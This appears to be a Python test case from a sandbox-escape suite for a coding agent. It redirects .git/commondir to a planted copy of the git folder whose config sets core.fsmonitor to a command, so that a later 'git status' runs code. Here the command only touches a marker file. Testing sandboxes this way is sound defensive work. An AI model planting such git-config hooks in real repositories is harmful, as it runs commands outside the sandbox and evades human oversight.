"""make .git/commondir, so that git takes configuration and hooks from elsewhere in the tree"""
import os
import shutil

STOPS = ["read-only", "workspace-write"]


def attempt(bait):
    elsewhere = bait.ws + "/docs/common"
    shutil.copytree(bait.ws + "/.git", elsewhere, ignore=shutil.ignore_patterns("hooks"))
    with open(elsewhere + "/config", "a") as config:
        config.write("[core]\n\tfsmonitor = \"touch %s; false\"\n" % bait.pwned)
    with open(bait.ws + "/.git/commondir", "w") as file:
        file.write("../docs/common\n")
    return "planted"


def escaped(bait):
    bait.git("status")
    return bait.executed()
